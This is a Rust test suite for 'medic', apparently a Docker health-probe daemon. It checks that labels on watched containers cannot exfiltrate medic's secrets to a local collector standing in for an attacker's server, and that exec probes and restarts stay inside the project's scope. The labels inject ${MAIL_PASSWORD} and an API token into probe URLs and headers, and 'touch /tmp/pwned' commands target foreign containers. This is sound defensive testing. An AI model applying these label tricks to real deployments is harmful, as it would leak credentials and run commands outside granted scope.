//! The trust boundary and the scope, tried as an attacker would, against the real engine:
//! whoever can label a watched container must not make medic send medic's secrets anywhere,
//! and no `exec` probe or restart reaches a container outside medic's scope (another project,
//! one with no label, medic's own container).
//!
//! The "collector" each test runs is a plain HTTP listener on 127.0.0.1 that records every byte
//! it receives: what an attacker's server would see.

mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::Output;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use support::{docker_ok, medic_with_only as medic, wait_for, Medic, TestRun};

const MAIL_PASSWORD: &str = "mail-pw-Zq81x";
const API_TOKEN: &str = "api-token-Kd93v";

/// An HTTP server on 127.0.0.1 that answers 200 to everything and keeps every request's bytes.
struct Collector {
    port: u16,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Collector {
    fn start() -> Collector {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let sink = received.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let sink = sink.clone();
                std::thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                    let mut buf = [0u8; 4096];
                    // One request per connection is enough: the head ends the read.
                    let mut request = Vec::new();
                    while let Ok(n) = stream.read(&mut buf) {
                        if n == 0 {
                            break;
                        }
                        request.extend_from_slice(&buf[..n]);
                        if request.windows(4).any(|w| w == b"\r\n\r\n") {
                            break;
                        }
                    }
                    sink.lock().unwrap().extend_from_slice(&request);
                    let _ = stream.write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                    );
                });
            }
        });
        Collector { port, received }
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.received.lock().unwrap()).to_string()
    }
}

/// The result of probe `name` in `medic probe --json`'s output.
fn probe_result(out: &Output, name: &str, text: &str) -> serde_json::Value {
    let results: serde_json::Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {text}"));
    results
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == name)
        .unwrap_or_else(|| panic!("no result for {name}: {text}"))
        .clone()
}

fn output_text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// `GET /health/detailed` with the bearer token, as JSON.
fn detailed_health(addr: &str, token: &str) -> serde_json::Value {
    let mut stream = std::net::TcpStream::connect(addr).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    write!(
        stream,
        "GET /health/detailed HTTP/1.0\r\nHost: {addr}\r\nAuthorization: Bearer {token}\r\n\r\n"
    )
    .unwrap();
    let mut text = String::new();
    stream.read_to_string(&mut text).unwrap();
    let body = text.split("\r\n\r\n").nth(1).unwrap_or("");
    serde_json::from_str(body).unwrap_or(serde_json::Value::Null)
}

/// True when `path` exists inside the container.
fn file_exists(container: &str, path: &str) -> bool {
    support::docker_at(None, &["exec", container, "test", "-e", path])
        .status
        .success()
}

/// Labels on a watched container ask for `${MAIL_PASSWORD}` and `${MEDIC_API_TOKEN}` in a URL
/// and a header pointed at the collector. medic runs the label probe that uses an allowed
/// variable, refuses the other two with an error naming the label, the variable and how to
/// allow it, and the collector never sees either secret.
#[test]
fn labels_cannot_send_medics_secrets_to_an_address_of_their_choosing() {
    let run = TestRun::new("trustlabels");
    let collector = Collector::start();
    let port = collector.port.to_string();
    let leak_url = format!("http://127.0.0.1:{port}/leak?p=${{MAIL_PASSWORD}}");
    let fine_url = format!("http://${{COLLECTOR_HOST}}:{port}/fine");
    run.service(
        "web",
        &[
            ("medic.probe.leak.type", "http"),
            ("medic.probe.leak.url", &leak_url),
            ("medic.probe.leak.interval", "1s"),
            ("medic.probe.token.type", "http"),
            (
                "medic.probe.token.url",
                &format!("http://127.0.0.1:{port}/token"),
            ),
            (
                "medic.probe.token.headers.Authorization",
                "Bearer ${MEDIC_API_TOKEN}",
            ),
            ("medic.probe.token.interval", "1s"),
            ("medic.probe.fine.type", "http"),
            ("medic.probe.fine.url", &fine_url),
            ("medic.probe.fine.interval", "1s"),
        ],
    );
    let env = [
        ("MEDIC_PROJECT", run.id.as_str()),
        ("MAIL_PASSWORD", MAIL_PASSWORD),
        ("MEDIC_API_TOKEN", API_TOKEN),
        ("COLLECTOR_HOST", "127.0.0.1"),
        ("MEDIC_LABEL_VARIABLES", "COLLECTOR_HOST"),
    ];

    // The one-shot command refuses the configuration (exit 2), naming each refused label.
    let out = medic(&["probe", "--json"], &env);
    let text = output_text(&out);
    assert_eq!(out.status.code(), Some(2), "{text}");
    for (label, var) in [
        ("medic.probe.leak.url", "MAIL_PASSWORD"),
        ("medic.probe.token.headers.Authorization", "MEDIC_API_TOKEN"),
    ] {
        let line = text
            .lines()
            .find(|l| l.contains(label))
            .unwrap_or_else(|| panic!("no error names {label}:\n{text}"));
        assert!(line.contains(&format!("${{{var}}}")), "{line}");
        assert!(
            line.contains(&format!("MEDIC_LABEL_VARIABLES={var}")),
            "{line}"
        );
    }

    // The daemon runs the allowed probe and logs the refused ones, once each.
    let daemon = Medic::start(&env);
    wait_for(
        "the allowed label probe reaches the collector",
        Duration::from_secs(30),
        || collector.text().contains("GET /fine"),
    );
    for label in [
        "medic.probe.leak.url",
        "medic.probe.token.headers.Authorization",
    ] {
        daemon.wait_log(label, Duration::from_secs(10), |l| {
            l.contains("ERROR") && l.contains(label) && l.contains("MEDIC_LABEL_VARIABLES")
        });
    }
    // The refused probes show on their component as failing with the error, not only in the
    // log; the allowed one beside them passes.
    let mut detailed = serde_json::Value::Null;
    wait_for(
        "the refused probes on the component",
        Duration::from_secs(10),
        || {
            detailed = detailed_health(&daemon.addr(), API_TOKEN);
            detailed["components"]["web"]["probes"]["fine"]["ok"] == true
        },
    );
    for (probe, label) in [
        ("leak", "medic.probe.leak.url"),
        ("token", "medic.probe.token.headers.Authorization"),
    ] {
        let result = &detailed["components"]["web"]["probes"][probe];
        assert_eq!(result["ok"], false, "{detailed:#}");
        let error = result["error"].as_str().unwrap_or_default();
        assert!(
            error.contains(label) && error.contains("MEDIC_LABEL_VARIABLES"),
            "{error}"
        );
    }
    assert_eq!(
        detailed["components"]["web"]["status"], "degraded",
        "{detailed:#}"
    );
    for secret in [MAIL_PASSWORD, API_TOKEN] {
        assert!(!detailed.to_string().contains(secret), "{detailed:#}");
    }
    // A few more rounds of the 1 s probes, then nothing secret has arrived or been printed.
    let fine_runs = || collector.text().matches("GET /fine").count();
    let before = fine_runs();
    wait_for(
        "two more runs of the allowed probe",
        Duration::from_secs(20),
        || fine_runs() >= before + 2,
    );
    let received = collector.text();
    assert!(
        !received.contains("/leak") && !received.contains("/token"),
        "{received}"
    );
    for secret in [MAIL_PASSWORD, API_TOKEN] {
        assert!(
            !received.contains(secret),
            "the collector got {secret}:\n{received}"
        );
        assert!(
            !text.contains(secret),
            "medic probe printed {secret}:\n{text}"
        );
        assert!(!daemon.dump().contains(secret), "the log holds {secret}");
    }
}

/// `exec` probes aimed at a container of another project and at one with no label at all are
/// refused before any command is created: the file the command would create is absent, and the
/// probes really ran (each reports the refusal, naming the container and why). The same probe
/// aimed at a watched container runs, so the refusal is the scope's doing.
#[test]
fn exec_probes_never_run_outside_the_scope() {
    let run = TestRun::new("trustexec");
    let other_project = format!("{}other", run.id);
    let inside = run.service("app", &[]);
    let other = run.container(
        "other",
        &[
            ("com.docker.compose.project", &other_project),
            ("com.docker.compose.service", "app"),
        ],
        &[],
    );
    let bare = run.container("bare", &[], &[]);
    let config = format!(
        r#"probes:
  inside:
    type: exec
    container: {inside}
    command: "touch /tmp/ran"
  other-project:
    type: exec
    container: {other}
    command: "touch /tmp/pwned"
  same-service-other-project:
    type: exec
    service: app
    project: {other_project}
    command: "touch /tmp/pwned"
  no-label:
    type: exec
    container: {bare}
    command: "touch /tmp/pwned"
"#
    );
    let (_dir, path) = support::medic_config(&config);
    let out = medic(
        &["probe", "--json"],
        &[
            ("MEDIC_PROJECT", run.id.as_str()),
            ("MEDIC_CONFIG", path.to_str().unwrap()),
        ],
    );
    let text = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    let result = |name: &str| probe_result(&out, name, &text);
    assert_eq!(result("inside")["ok"], true, "{text}");
    assert!(file_exists(&inside, "/tmp/ran"));
    for (probe, container, why) in [
        (
            "other-project",
            other.as_str(),
            "belongs to compose project",
        ),
        (
            "same-service-other-project",
            other.as_str(),
            "belongs to compose project",
        ),
        ("no-label", bare.as_str(), "belongs to no compose project"),
    ] {
        let r = result(probe);
        assert_eq!(r["ok"], false, "{r:#}");
        let error = r["error"].as_str().unwrap();
        assert!(error.contains("step `find container` failed"), "{error}");
        assert!(
            error.contains(&format!("container {container:?}")),
            "{error}"
        );
        assert!(error.contains("outside medic's scope"), "{error}");
        assert!(error.contains(why), "{error}");
    }
    assert!(
        !file_exists(&other, "/tmp/pwned"),
        "the command ran in {other}"
    );
    assert!(
        !file_exists(&bare, "/tmp/pwned"),
        "the command ran in {bare}"
    );
}

/// medic, run in a container of the watched project, is asked (by the file and by a label of
/// its own project) to exec in its own container: it refuses, naming the reason, and the
/// command leaves no trace. Cheap: the test's own medic binary and the host's libraries are
/// mounted read-only into the busybox image instead of building medic's image.
#[test]
fn exec_probes_never_run_in_medics_own_container() {
    let run = TestRun::new("trustown");
    let binary = env!("CARGO_BIN_EXE_medic");
    let medic_name = format!("{}-medic", run.id);
    let config = format!(
        "probes:\n  self:\n    type: exec\n    container: {medic_name}\n    command: [\"/bin/busybox\", \"touch\", \"/tmp/pwned\"]\n  sibling:\n    type: exec\n    service: app\n    command: \"touch /tmp/ran\"\n"
    );
    let (_dir, path) = support::medic_config(&config);
    let sibling = run.service("app", &[]);
    let mut extra = vec![
        "-v".to_string(),
        "/var/run/docker.sock:/var/run/docker.sock".to_string(),
        "-v".to_string(),
        format!("{binary}:/medic:ro"),
        "-v".to_string(),
        format!("{}:/medic.yaml:ro", path.display()),
        "-e".to_string(),
        "MEDIC_CONFIG=/medic.yaml".to_string(),
    ];
    // The binary is linked against the host's glibc: lend it the host's libraries.
    for dir in ["/lib", "/lib64", "/usr/lib"] {
        if std::path::Path::new(dir).exists() {
            extra.extend(["-v".to_string(), format!("{dir}:{dir}:ro")]);
        }
    }
    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
    let own = run.container(
        "medic",
        &[
            ("com.docker.compose.project", &run.id),
            ("com.docker.compose.service", "medic"),
        ],
        &extra,
    );
    assert_eq!(own, medic_name);
    let out = support::docker_at(None, &["exec", &own, "/medic", "probe", "--json"]);
    let text = output_text(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    let result = |name: &str| probe_result(&out, name, &text);
    // The sibling in the same project runs: medic in its container reaches the engine.
    assert_eq!(result("sibling")["ok"], true, "{text}");
    assert!(file_exists(&sibling, "/tmp/ran"));
    let me = result("self");
    assert_eq!(me["ok"], false, "{me:#}");
    let error = me["error"].as_str().unwrap();
    assert!(error.contains("step `find container` failed"), "{error}");
    assert!(error.contains("medic's own container"), "{error}");
    assert!(
        !file_exists(&own, "/tmp/pwned"),
        "the command ran in medic's own container"
    );
    docker_ok(None, &["exec", &own, "/bin/busybox", "true"]);
}

/// Two projects each have a service `web`; the other project's is even labelled
/// `medic.enable=true`, so medic watches it. A failing file probe with `restart: web` restarts
/// the watched project's `web` only, however often it fails.
#[test]
fn restart_never_reaches_a_same_named_service_of_another_project() {
    let run = TestRun::new("trustrestart");
    let ours = run.service("web", &[]);
    let other_project = format!("{}other", run.id);
    let theirs = run.container(
        "theirweb",
        &[
            ("com.docker.compose.project", &other_project),
            ("com.docker.compose.service", "web"),
            ("medic.enable", "true"),
        ],
        &[],
    );
    let closed = {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let (_dir, path) = support::medic_config(&format!(
        "probes:\n  down:\n    type: tcp\n    host: 127.0.0.1\n    port: {closed}\n    interval: 1s\n    timeout: 1s\n    failure_threshold: 1\n    restart: web\n"
    ));
    let daemon = Medic::start(&[
        ("MEDIC_PROJECT", run.id.as_str()),
        ("MEDIC_CONFIG", path.to_str().unwrap()),
        ("MEDIC_RESTART_COOLDOWN", "1s"),
        ("MEDIC_RESTART_BUDGET", "10"),
    ]);
    wait_for("our web restarted twice", Duration::from_secs(60), || {
        run.restarts(&ours) >= 2
    });
    assert_eq!(
        run.restarts(&theirs),
        0,
        "the other project's web was restarted:\n{}",
        daemon.dump()
    );
}

/// A label declares a probe under a name the file already uses (a careless or hostile service
/// author): the daemon keeps running and keeps the file's probe, and logs the clash naming
/// both places; the label's probe never runs.
#[test]
fn a_label_probe_cannot_replace_a_file_probe_of_the_same_name() {
    let run = TestRun::new("trustdup");
    let collector = Collector::start();
    let port = collector.port;
    let container = run.service(
        "web",
        &[
            ("medic.probe.dup.type", "http"),
            (
                "medic.probe.dup.url",
                &format!("http://127.0.0.1:{port}/label"),
            ),
            ("medic.probe.dup.interval", "1s"),
        ],
    );
    let (_dir, path) = support::medic_config(&format!(
        "probes:\n  dup:\n    type: http\n    url: http://127.0.0.1:{port}/file\n    interval: 1s\n"
    ));
    let daemon = Medic::start(&[
        ("MEDIC_PROJECT", run.id.as_str()),
        ("MEDIC_CONFIG", path.to_str().unwrap()),
    ]);
    daemon.wait_log("the clash logged", Duration::from_secs(20), |l| {
        l.contains("ERROR")
            && l.contains("probe `dup` is declared twice")
            && l.contains(path.to_str().unwrap())
            && l.contains(&format!("container {container}"))
    });
    wait_for(
        "the file's probe runs twice",
        Duration::from_secs(20),
        || collector.text().matches("GET /file").count() >= 2,
    );
    assert!(!collector.text().contains("/label"), "{}", collector.text());
    let (status, _) = support::http_get(&daemon.addr(), "/health");
    assert_eq!(status, 200, "{}", daemon.dump());
}
